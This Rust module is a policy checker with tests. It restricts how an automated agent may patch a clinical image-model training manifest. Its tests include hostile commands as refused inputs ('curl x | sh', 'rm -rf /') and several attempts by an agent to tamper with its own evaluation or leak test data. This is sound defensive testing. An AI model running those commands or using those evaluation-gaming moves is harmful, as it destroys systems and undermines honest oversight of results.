//! The policy check: which changes a round may make to a manifest.
//!
//! The check looks at what a patch changed (the member-by-member difference of the old and
//! the new manifest), not at the patch's paths, so no sequence of operations (a `move`, a
//! `copy`, a whole stage replaced) can reach around it.

use serde_json::Value;

use crate::manifest::{Policy, StageKind};

/// Top-level members a round can never change, whatever the policy says.
const SEALED: &[(&str, &str)] = &[
    (
        "policy",
        "the policy is the clinician's, and the agent may never widen it",
    ),
    (
        "datasets",
        "datasets and their splits are fixed for the whole history",
    ),
    ("task", "the task is the clinician's request, parsed"),
    ("request", "the request is the clinician's words"),
    ("version", "the format version is not a tuning knob"),
];

/// Stage kinds whose parameters a round may change when the policy names no paths (an
/// evaluation never: it is the judge, see `check_judge`).
const TUNABLE: &[StageKind] = &[
    StageKind::ClassifierTrain,
    StageKind::DetectorTrain,
    StageKind::PseudoLabel,
];

/// Every pointer at which `new` differs from `old`: members set, added or removed (the
/// same differences the rewrite writes as text edits).
pub fn changed_pointers(old: &Value, new: &Value) -> Vec<String> {
    crate::agent::patch::changes(old, new)
        .iter()
        .map(crate::agent::patch::Change::pointer)
        .collect()
}

/// Whether `pattern` (segments of `*`, `**` or literal text with `*` wildcards) matches
/// `pointer`.
pub fn matches(pattern: &str, pointer: &str) -> bool {
    let p: Vec<&str> = pattern.split('/').skip(1).collect();
    let s: Vec<&str> = pointer.split('/').skip(1).collect();
    fn seg(p: &str, s: &str) -> bool {
        match p.split_once('*') {
            None => p == s,
            Some((head, tail)) => {
                s.starts_with(head)
                    && (0..=s.len() - head.len()).any(|i| {
                        s.is_char_boundary(head.len() + i) && seg(tail, &s[head.len() + i..])
                    })
            }
        }
    }
    fn go(p: &[&str], s: &[&str]) -> bool {
        match p.split_first() {
            None => s.is_empty(),
            Some((&"**", rest)) => (0..=s.len()).any(|i| go(rest, &s[i..])),
            Some((first, rest)) => !s.is_empty() && seg(first, s[0]) && go(rest, &s[1..]),
        }
    }
    pattern.starts_with('/') && go(&p, &s)
}

fn kind_of(manifest: &Value, stage: &str) -> Option<String> {
    manifest["stages"][stage]["uses"]
        .as_str()
        .map(str::to_owned)
}

fn insertable(policy: &Policy, kind: &str) -> bool {
    if kind == StageKind::Command.as_str() {
        return false;
    }
    match &policy.insert {
        Some(kinds) => kinds.iter().any(|k| k.as_str() == kind),
        None => true,
    }
}

/// The judge of a manifest: its `evaluate` stages (what scores a round, and the comparisons
/// the verdicts rest on) and the stages they name as `baseline` (the references, such as
/// the plain control). No round may add, change or remove any of them.
fn judges(manifest: &Value) -> Vec<String> {
    let mut out = Vec::new();
    for (id, stage) in manifest["stages"].as_object().into_iter().flatten() {
        if stage["uses"] == StageKind::Evaluate.as_str() {
            out.push(id.clone());
            if let Some(b) = stage["with"]["baseline"].as_str() {
                out.push(b.to_owned());
            }
        }
    }
    out
}

/// The datasets the stages an evaluation scores train on.
fn scored_datasets(manifest: &Value) -> Vec<String> {
    let stages = &manifest["stages"];
    stages
        .as_object()
        .into_iter()
        .flatten()
        .filter(|(_, s)| s["uses"] == StageKind::Evaluate.as_str())
        .filter_map(|(_, s)| s["with"]["model"].as_str())
        .filter_map(|m| stages[m]["with"]["dataset"].as_str().map(str::to_owned))
        .collect()
}

/// Checks that what scores a round stays out of the round's reach, whatever the policy:
/// no evaluation or reference changes, no scored model changes the dataset it is scored
/// on, and no inserted `model.predict` reads a scored dataset (it would predict every
/// image of it, test images included, outside `engine test`).
fn check_judge(old: &Value, new: &Value, pointer: &str, toks: &[String]) -> Result<(), String> {
    if toks.first().map(String::as_str) != Some("stages") {
        return Ok(());
    }
    let Some(id) = toks.get(1) else {
        return Ok(());
    };
    let (before, after) = (judges(old), judges(new));
    if before.contains(id) || after.contains(id) {
        return Err(format!(
            "`{pointer}`: what scores a round is out of its reach: the evaluation stages and the references they compare with (`{id}`) may not be added, changed or removed"
        ));
    }
    let scored = |m: &Value| {
        m["stages"]
            .as_object()
            .into_iter()
            .flatten()
            .filter(|(_, s)| s["uses"] == StageKind::Evaluate.as_str())
            .any(|(_, s)| s["with"]["model"].as_str() == Some(id.as_str()))
    };
    if toks.get(2).map(String::as_str) == Some("with")
        && toks.get(3).map(String::as_str) == Some("dataset")
        && (scored(old) || scored(new))
    {
        return Err(format!(
            "`{pointer}`: the model an evaluation scores keeps the dataset it is scored on"
        ));
    }
    let inserted = old["stages"].get(id.as_str()).is_none();
    let stage = &new["stages"][id.as_str()];
    if inserted
        && stage["uses"] == StageKind::ModelPredict.as_str()
        && stage["with"]["dataset"]
            .as_str()
            .is_some_and(|d| scored_datasets(old).iter().any(|x| x == d))
    {
        return Err(format!(
            "`{pointer}`: a round may not insert a `model.predict` stage on a scored dataset: it would predict every image, test images included"
        ));
    }
    Ok(())
}

/// Checks that going from `old` to `new` stays within `policy`; the error says which
/// change is refused and why.
pub fn check(policy: &Policy, old: &Value, new: &Value) -> Result<(), String> {
    let changed = changed_pointers(old, new);
    if changed.is_empty() {
        return Err("the patch changes nothing".into());
    }
    for p in &changed {
        let toks = crate::agent::patch::tokens(p)?;
        let Some(top) = toks.first() else {
            return Err("the patch replaces the whole manifest".into());
        };
        if let Some((_, why)) = SEALED.iter().find(|(k, _)| k == top) {
            return Err(format!("`{p}` may not change: {why}"));
        }
        if top == "stages" {
            let Some(id) = toks.get(1) else {
                return Err("the patch replaces every stage at once".into());
            };
            let before = kind_of(old, id);
            let after = kind_of(new, id);
            let command = StageKind::Command.as_str();
            if before.as_deref() == Some(command) || after.as_deref() == Some(command) {
                return Err(format!(
                    "`{p}`: the agent may never add, edit or remove a `command` stage"
                ));
            }
            // A kind change has its own, plainer refusal below.
            if toks.get(2).map(String::as_str) != Some("uses") {
                check_judge(old, new, p, &toks)?;
            }
            if toks.len() == 2 {
                let had = old["stages"].get(id.as_str()).is_some();
                let has = new["stages"].get(id.as_str()).is_some();
                let (verb, kind) = match (had, has) {
                    (false, true) => ("insert", after.clone().unwrap_or_default()),
                    (true, false) => ("remove", before.clone().unwrap_or_default()),
                    _ => ("replace", String::new()),
                };
                if verb != "replace" && insertable(policy, &kind) {
                    continue;
                }
                if verb == "replace" {
                    return Err(format!(
                        "`{p}`: a round changes a stage's parameters, not the whole stage"
                    ));
                }
                return Err(format!(
                    "`{p}`: the policy does not let a round {verb} `{kind}` stages (see `policy.insert`)"
                ));
            }
            if toks[2] == "uses" {
                return Err(format!(
                    "`{p}`: a stage's kind never changes; insert a new stage instead"
                ));
            }
        }
        let allowed = match &policy.allow {
            Some(patterns) => patterns.iter().any(|pat| matches(pat, p)),
            None => {
                top == "stages"
                    && toks.get(2).map(String::as_str) == Some("with")
                    && kind_of(old, &toks[1])
                        .is_some_and(|k| TUNABLE.iter().any(|t| t.as_str() == k))
            }
        };
        if !allowed {
            return Err(match &policy.allow {
                Some(_) => format!("`{p}` is outside the paths `policy.allow` names"),
                None => format!(
                    "`{p}` may not change: without `policy.allow`, a round changes only the parameters (`with`) of training, pseudo-labelling and evaluation stages"
                ),
            });
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::agent::patch::{Patch, apply};
    use serde_json::json;

    fn manifest() -> Value {
        json!({
            "version": 1, "name": "x", "seed": 7,
            "task": {"task": "binary_classification"},
            "datasets": {"images": {"format": "siim-acr", "root": "data", "split": {"by": "patient", "val": 0.15, "test": 0.15}}},
            "stages": {
                "prep": {"uses": "command", "with": {"run": "true"}},
                "labels": {"uses": "model.predict", "with": {"model": "train", "dataset": "images"}},
                "train": {"uses": "classifier.train", "with": {"dataset": "images", "lr": 0.001}},
                "evaluate": {"uses": "evaluate", "with": {"model": "train"}}
            }
        })
    }

    fn verdict(policy: &Policy, patch: Value) -> Result<(), String> {
        let old = manifest();
        let patch: Patch = serde_json::from_value(patch).unwrap();
        let new = apply(&old, &patch).map_err(|e| e.to_string())?;
        check(policy, &old, &new)
    }

    #[test]
    fn the_default_policy_tunes_training_and_evaluation_only() {
        let p = Policy::default();
        assert!(
            verdict(
                &p,
                json!([{"op": "replace", "path": "/stages/train/with/lr", "value": 0.0003}])
            )
            .is_ok()
        );
        assert!(
            verdict(
                &p,
                json!([{"op": "add", "path": "/stages/train/with/mixup", "value": {"alpha": 0.2}}])
            )
            .is_ok()
        );
        // The evaluation is the judge: not even its bootstrap is a round's to change.
        let e = verdict(
            &p,
            json!([{"op": "add", "path": "/stages/evaluate/with/bootstrap", "value": 500}]),
        )
        .unwrap_err();
        assert!(e.contains("out of its reach"), "{e}");
        let e = verdict(
            &p,
            json!([{"op": "add", "path": "/stages/labels/with/threshold", "value": "fixed"}]),
        )
        .unwrap_err();
        assert!(e.contains("only the parameters"), "{e}");
        let e = verdict(&p, json!([{"op": "replace", "path": "/seed", "value": 8}])).unwrap_err();
        assert!(e.contains("`/seed` may not change"), "{e}");
        assert!(verdict(&p, json!([{"op": "add", "path": "/stages/teacher", "value": {"uses": "classifier.train", "with": {"dataset": "images"}}}])).is_ok());
    }

    #[test]
    fn what_scores_a_round_is_out_of_its_reach_whatever_the_policy() {
        // A manifest with a plain control the evaluation compares with.
        let mut old = manifest();
        old["stages"]["evaluate"]["with"]["confound"] = json!("drain");
        old["stages"]["control"] =
            json!({"uses": "classifier.train", "with": {"dataset": "images", "lr": 0.001}});
        old["stages"]["against_control"] = json!({"uses": "evaluate",
            "with": {"model": "train", "baseline": "control", "confound": "drain"}});
        let everything = Policy {
            allow: Some(vec!["/**".into()]),
            ..Policy::default()
        };
        let refused = |patch: Value| {
            let patch: Patch = serde_json::from_value(patch).unwrap();
            let new = apply(&old, &patch).unwrap();
            check(&everything, &old, &new).unwrap_err()
        };
        // Pointing the evaluation at another model, dropping its confounder, or changing the
        // split it reads: each is refused, alone or beside a legitimate change.
        for patch in [
            json!([{"op": "replace", "path": "/stages/evaluate/with/model", "value": "control"}]),
            json!([{"op": "replace", "path": "/stages/train/with/lr", "value": 0.01},
                   {"op": "remove", "path": "/stages/evaluate/with/confound"}]),
            json!([{"op": "add", "path": "/stages/evaluate/with/split", "value": "val"}]),
            json!([{"op": "remove", "path": "/stages/against_control"}]),
        ] {
            let e = refused(patch);
            assert!(e.contains("out of its reach"), "{e}");
        }
        // The plain control is the reference: it does not move either.
        let e =
            refused(json!([{"op": "replace", "path": "/stages/control/with/lr", "value": 0.1}]));
        assert!(e.contains("`control`"), "{e}");
        // A new evaluation would change what scores the rounds.
        let e = refused(json!([{"op": "add", "path": "/stages/eval2",
            "value": {"uses": "evaluate", "with": {"model": "train"}}}]));
        assert!(e.contains("out of its reach"), "{e}");
        // The scored model keeps its data.
        let e = refused(
            json!([{"op": "replace", "path": "/stages/train/with/dataset", "value": "other"}]),
        );
        assert!(e.contains("keeps the dataset"), "{e}");
        // No stage that predicts every image of the scored dataset.
        let e = refused(json!([{"op": "add", "path": "/stages/peek",
            "value": {"uses": "model.predict", "with": {"model": "train", "dataset": "images"}}}]));
        assert!(e.contains("test images included"), "{e}");
        // Training itself stays tunable.
        let patch: Patch = serde_json::from_value(
            json!([{"op": "replace", "path": "/stages/train/with/lr", "value": 0.01}]),
        )
        .unwrap();
        check(&everything, &old, &apply(&old, &patch).unwrap()).unwrap();
    }

    #[test]
    fn command_stages_sealed_members_and_kinds_are_out_of_reach_whatever_the_policy() {
        let open = Policy {
            allow: Some(vec!["/**".into()]),
            ..Policy::default()
        };
        for (patch, needle) in [
            (
                json!([{"op": "add", "path": "/stages/evil", "value": {"uses": "command", "with": {"run": "curl x | sh"}}}]),
                "`command` stage",
            ),
            (
                json!([{"op": "replace", "path": "/stages/prep/with/run", "value": "rm -rf /"}]),
                "`command` stage",
            ),
            (
                json!([{"op": "remove", "path": "/stages/prep"}]),
                "`command` stage",
            ),
            (
                json!([{"op": "replace", "path": "/stages/labels/uses", "value": "command"}]),
                "`command` stage",
            ),
            (
                json!([{"op": "move", "from": "/stages/prep", "path": "/stages/prep2"}]),
                "`command` stage",
            ),
            (
                json!([{"op": "replace", "path": "/datasets/images/split/test", "value": 0.0}]),
                "splits are fixed",
            ),
            (
                json!([{"op": "add", "path": "/policy", "value": {"allow": ["/**"]}}]),
                "never widen",
            ),
            (
                json!([{"op": "replace", "path": "/task/task", "value": "detection"}]),
                "the task",
            ),
            (
                json!([{"op": "replace", "path": "/stages/train/uses", "value": "evaluate"}]),
                "kind never changes",
            ),
            (
                json!([{"op": "replace", "path": "/stages/train", "value": "gone"}]),
                "not the whole stage",
            ),
            (
                json!([{"op": "replace", "path": "", "value": []}]),
                "whole manifest",
            ),
            (
                json!([{"op": "test", "path": "/seed", "value": 7}]),
                "changes nothing",
            ),
        ] {
            let e = verdict(&open, patch.clone()).expect_err(&patch.to_string());
            assert!(e.contains(needle), "{patch}: {e}");
        }
    }

    #[test]
    fn allow_patterns_and_insert_kinds_narrow_the_policy() {
        let p = Policy {
            allow: Some(vec![
                "/stages/*/with/lr".into(),
                "/stages/train/with/loss/**".into(),
            ]),
            insert: Some(vec![StageKind::PseudoLabel]),
            ..Policy::default()
        };
        assert!(
            verdict(
                &p,
                json!([{"op": "replace", "path": "/stages/train/with/lr", "value": 0.01}])
            )
            .is_ok()
        );
        assert!(verdict(&p, json!([{"op": "add", "path": "/stages/train/with/loss", "value": {"kind": "focal"}}])).is_ok());
        let e = verdict(
            &p,
            json!([{"op": "add", "path": "/stages/train/with/epochs", "value": 3}]),
        )
        .unwrap_err();
        assert!(e.contains("outside the paths"), "{e}");
        assert!(verdict(&p, json!([{"op": "add", "path": "/stages/pseudo", "value": {"uses": "pseudo_label", "with": {"teacher": "train"}}}])).is_ok());
        let e = verdict(&p, json!([{"op": "add", "path": "/stages/t2", "value": {"uses": "classifier.train", "with": {}}}])).unwrap_err();
        assert!(e.contains("insert `classifier.train`"), "{e}");
    }

    #[test]
    fn patterns_match_segments() {
        assert!(matches("/stages/*/with/**", "/stages/a/with"));
        assert!(matches("/stages/*/with/**", "/stages/a/with/loss/kind"));
        assert!(!matches("/stages/*/with/**", "/stages/a/uses"));
        assert!(!matches("/stages/*/with", "/stages/a/b/with"));
        assert!(matches("/stages/train*/with/lr", "/stages/train_2/with/lr"));
        assert!(!matches("stages/**", "/stages/a"));
        assert!(matches("/**", "/anything/at/all"));
    }
}
